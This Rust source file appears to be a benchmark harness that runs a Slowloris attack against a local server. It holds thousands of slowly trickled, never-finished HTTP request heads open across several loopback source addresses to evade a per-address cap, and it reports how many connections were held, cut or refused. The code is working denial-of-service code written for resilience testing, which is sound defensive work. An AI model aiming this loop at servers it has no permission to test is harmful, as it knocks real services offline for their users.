//! Slowloris load for the benchmark: many connections that each send a request head one header
//! line at a time and never finish it, from several loopback source addresses (127.0.0.2 …) so that
//! the per-address connection cap does not turn them all away at once. A connection the server
//! closes is opened again, so the attack keeps its size for the whole run; it stops by itself after
//! --duration seconds.
//!
//! Prints `key value` lines for scripts/bench.sh: how many connections were held on average, how
//! many the server cut off, and how many it refused outright.

use std::net::{IpAddr, Ipv4Addr, SocketAddr};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use clap::Parser;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpSocket;

#[derive(Parser)]
struct Args {
    #[arg(long, default_value = "127.0.0.1:8080")]
    addr: SocketAddr,
    #[arg(long, default_value_t = 5000)]
    connections: usize,
    /// Loopback source addresses to spread the connections over (127.0.0.2 and up)
    #[arg(long, default_value_t = 25)]
    sources: u8,
    #[arg(long, default_value_t = 20)]
    duration: u64,
    /// Seconds between header lines
    #[arg(long, default_value_t = 2)]
    trickle: u64,
}

#[derive(Default)]
struct Counters {
    open: AtomicU64,
    open_samples: AtomicU64,
    samples: AtomicU64,
    cut: AtomicU64,
    refused: AtomicU64,
}

async fn attacker(args: Arc<Args>, i: usize, deadline: Instant, c: Arc<Counters>) {
    let source = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 2 + (i % args.sources.max(1) as usize) as u8));
    while Instant::now() < deadline {
        let socket = match TcpSocket::new_v4().and_then(|s| s.bind(SocketAddr::new(source, 0)).map(|()| s)) {
            Ok(s) => s,
            Err(_) => return,
        };
        let Ok(Ok(mut stream)) = tokio::time::timeout(Duration::from_secs(5), socket.connect(args.addr)).await else {
            c.refused.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(200)).await;
            continue;
        };
        c.open.fetch_add(1, Ordering::Relaxed);
        let mut alive = stream.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n").await.is_ok();
        let mut buf = [0u8; 256];
        let mut line = 0u64;
        while alive && Instant::now() < deadline {
            tokio::select! {
                // Whatever comes back (an answer, the end, an error): the server cut this one off.
                _ = stream.read(&mut buf) => alive = false,
                _ = tokio::time::sleep(Duration::from_secs(args.trickle)) => {
                    line += 1;
                    alive = stream.write_all(format!("X-Slow-{line}: 1\r\n").as_bytes()).await.is_ok();
                }
            }
        }
        c.open.fetch_sub(1, Ordering::Relaxed);
        if Instant::now() < deadline {
            c.cut.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

#[tokio::main]
async fn main() {
    let args = Arc::new(Args::parse());
    let counters = Arc::new(Counters::default());
    let deadline = Instant::now() + Duration::from_secs(args.duration);
    let tasks: Vec<_> = (0..args.connections)
        .map(|i| tokio::spawn(attacker(Arc::clone(&args), i, deadline, Arc::clone(&counters))))
        .collect();
    while Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(500)).await;
        counters.open_samples.fetch_add(counters.open.load(Ordering::Relaxed), Ordering::Relaxed);
        counters.samples.fetch_add(1, Ordering::Relaxed);
    }
    for t in tasks {
        let _ = t.await;
    }
    let samples = counters.samples.load(Ordering::Relaxed).max(1);
    println!("held_avg {}", counters.open_samples.load(Ordering::Relaxed) / samples);
    println!("cut_by_server {}", counters.cut.load(Ordering::Relaxed));
    println!("refused {}", counters.refused.load(Ordering::Relaxed));
}
